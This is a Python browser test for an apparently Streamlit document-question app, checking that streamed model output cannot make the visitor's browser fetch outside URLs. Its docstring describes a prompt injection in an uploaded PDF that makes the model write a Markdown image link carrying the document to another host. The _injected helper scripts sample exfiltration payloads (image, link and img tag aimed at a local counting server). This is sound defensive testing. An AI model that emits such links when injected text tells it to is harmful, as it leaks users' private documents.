"""A model's streamed draft is shown literally in a real browser: no image in it is fetched.

A prompt injection inside an uploaded PDF can make the model write ``![x](http://host/?q=<the document>)``; the
Ask page streamed the model's text into ``st.write_stream`` as Markdown, so the visitor's browser fetched that
URL while the answer was being written. Here the "outside host" is a second server on 127.0.0.1 that counts
what it is asked for: after a whole streamed answer it must have seen nothing, and the browser must have asked
nothing of any host but the app.

Skips when chromium is absent (unless $CI is set). Never downloads a browser.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlparse

import pytest

from engine.samples import SAMPLE_QUESTIONS
from tests.app.conftest import REAL_ENGINE
from tests.e2e.server import ARGS, chromium, streamlit_app
from tests.llm.stub_server import StubServer, reply
from tests.reliability.fault_server import FaultServer

pytestmark = pytest.mark.skipif(not REAL_ENGINE, reason="needs the real engine (the openai backend streams)")


def _injected(leak_url: str) -> dict:
    text = (
        f"The endurance is 95 minutes. ![chart]({leak_url}?q=secret) [more](http://{urlparse(leak_url).netloc}/l) "
        "<img src='" + leak_url + "?html=1'> **bold** $x$ :red[alert] www.example.com"
    )
    return {"statements": [{"text": text, "passages": [1]}], "answer_found": True, "missing": []}


@pytest.mark.timeout(300)
def test_streamed_model_text_makes_the_browser_fetch_nothing(tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    executable = chromium()
    library = tmp_path / "library"
    library.mkdir()
    with FaultServer("ok") as outside, StubServer() as model:
        leak_url = f"http://127.0.0.1:{outside.port}/leak.png"
        model.piece_seconds = 0.05  # the draft arrives in visible pieces, as a real model's does
        model.script(reply(_injected(leak_url)))
        env = {"OPENAI_BASE_URL": model.base_url, "OPENAI_API_KEY": "sk-test-browser", "LOUPE_NO_NETWORK": "0"}
        with streamlit_app(library, tmp_path / "streamlit.log", "app.py", extra_env=env) as url:
            app_host = urlparse(url).netloc
            asked: list[str] = []
            with sync_playwright() as p:
                browser = p.chromium.launch(executable_path=executable, args=ARGS, headless=True)
                page = browser.new_page(viewport={"width": 1500, "height": 1100})
                page.on("request", lambda request: asked.append(request.url))
                page.set_default_timeout(90_000)
                expect.set_options(timeout=120_000)
                page.goto(url)
                page.locator("[data-testid='stChatInputTextArea']").wait_for()
                page.locator("[data-testid='stStatusWidget']").wait_for(state="hidden")
                page.locator("[data-testid='stSidebar']").get_by_text("OpenAI-compatible endpoint").click()
                page.get_by_text("Request timeout (s)").wait_for()
                page.locator("[data-testid='stStatusWidget']").wait_for(state="hidden")
                page.get_by_role("button", name=SAMPLE_QUESTIONS[0]).click()
                page.get_by_placeholder("Ask a follow-up…").wait_for()  # the turn is drawn: the run has ended
                page.locator("[data-testid='stStatusWidget']").wait_for(state="hidden")
                page.wait_for_timeout(1500)  # an image the page holds would have been requested by now
                page.screenshot(path=str(tmp_path / "answered.png"), full_page=True)
                assert not page.locator("[data-testid='stException']").count()
                browser.close()
            assert any(r.body.get("stream") for r in model.requests), "the answer streamed from the model"
    assert outside.count() == 0, [r.path for r in outside.requests]
    foreign = [u for u in asked if urlparse(u).scheme in ("http", "https") and urlparse(u).netloc != app_host]
    assert not foreign, foreign
